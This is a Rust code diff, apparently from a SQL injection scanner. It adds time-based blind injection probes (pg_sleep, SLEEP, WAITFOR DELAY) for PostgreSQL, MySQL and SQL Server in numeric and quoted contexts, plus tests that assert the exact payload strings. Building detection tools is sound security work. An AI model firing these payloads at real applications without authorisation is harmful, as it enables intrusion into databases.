@@ -94,12 +94,82 @@ const CONCAT: Pair = Pair {
 
 /// The pairs worth trying on a value: the numeric pair first when it is a number.
 pub fn pairs(value: &str, kind: Option<&str>) -> Vec<Pair> {
-    let numeric = matches!(kind, Some("integer" | "number")) || (!value.is_empty() && value.parse::<f64>().is_ok());
-    if numeric {
+    if is_numeric(value, kind) {
         vec![NUMERIC, QUOTED, CONCAT]
     } else {
         vec![QUOTED, CONCAT]
     }
+}
+
+/// A time probe: appended to the normal value, it makes one database engine
+/// sleep `{}` seconds, once per query, where the value ends the SQL context.
+#[derive(Debug, Clone, Copy)]
+pub struct Sleep {
+    pub engine: &'static str,
+    /// Shown in findings: how the value ends the SQL context.
+    pub context: &'static str,
+    pub form: &'static str,
+    numeric: bool,
+}
+
+/// Each sleeps once per statement: PostgreSQL's and MySQL's in an uncorrelated
+/// subquery (evaluated once, not per row), SQL Server's as a statement of its own.
+const SLEEPS: &[Sleep] = &[
+    Sleep {
+        engine: "PostgreSQL",
+        context: "an unquoted number",
+        form: "+(SELECT 0 FROM pg_sleep({}))",
+        numeric: true,
+    },
+    Sleep {
+        engine: "MySQL",
+        context: "an unquoted number",
+        form: " AND (SELECT 1 FROM (SELECT SLEEP({}))x)",
+        numeric: true,
+    },
+    Sleep {
+        engine: "SQL Server",
+        context: "an unquoted number",
+        form: ";WAITFOR DELAY '0:0:{}'--",
+        numeric: true,
+    },
+    Sleep {
+        engine: "PostgreSQL",
+        context: "a quoted string",
+        form: "'||(SELECT '' FROM pg_sleep({}))||'",
+        numeric: false,
+    },
+    Sleep {
+        engine: "MySQL",
+        context: "a quoted string",
+        form: "' AND (SELECT 1 FROM (SELECT SLEEP({}))x) AND '1'='1",
+        numeric: false,
+    },
+    Sleep {
+        engine: "SQL Server",
+        context: "a quoted string",
+        form: "';WAITFOR DELAY '0:0:{}'--",
+        numeric: false,
+    },
+];
+
+impl Sleep {
+    /// The whole value to send: `value` with a sleep of `secs` seconds.
+    pub fn payload(&self, value: &str, secs: u64) -> String {
+        format!("{value}{}", self.form.replace("{}", &secs.to_string()))
+    }
+}
+
+/// The time probes worth trying on a value: the numeric ones only on numbers, and first.
+pub fn sleeps(value: &str, kind: Option<&str>) -> Vec<Sleep> {
+    let numeric = is_numeric(value, kind);
+    let mut sleeps: Vec<Sleep> = SLEEPS.iter().filter(|s| numeric || !s.numeric).copied().collect();
+    sleeps.sort_by_key(|s| !s.numeric);
+    sleeps
+}
+
+fn is_numeric(value: &str, kind: Option<&str>) -> bool {
+    matches!(kind, Some("integer" | "number")) || (!value.is_empty() && value.parse::<f64>().is_ok())
 }
 
 /// `probe` answered like `base`: the same status and body, once the echo of
@@ -130,5 +200,20 @@ mod tests {
         assert_eq!(pairs("5", None)[0].truthy, " AND 1=1");
         assert_eq!(pairs("abc", Some("integer"))[0].truthy, " AND 1=1");
         assert_eq!(pairs("alice", Some("string")).len(), 2);
+    }
+
+    #[test]
+    fn sleeps_fit_the_value() {
+        let text = sleeps("WELCOME10", Some("string"));
+        assert_eq!(text.len(), 3);
+        assert_eq!(
+            text[0].payload("WELCOME10", 2),
+            "WELCOME10'||(SELECT '' FROM pg_sleep(2))||'"
+        );
+        let number = sleeps("10031", None);
+        assert_eq!(number.len(), 6);
+        assert_eq!(number[0].payload("10031", 0), "10031+(SELECT 0 FROM pg_sleep(0))");
+        assert_eq!(number[2].payload("7", 5), "7;WAITFOR DELAY '0:0:5'--");
+        assert!(!number[3].numeric);
     }
 }
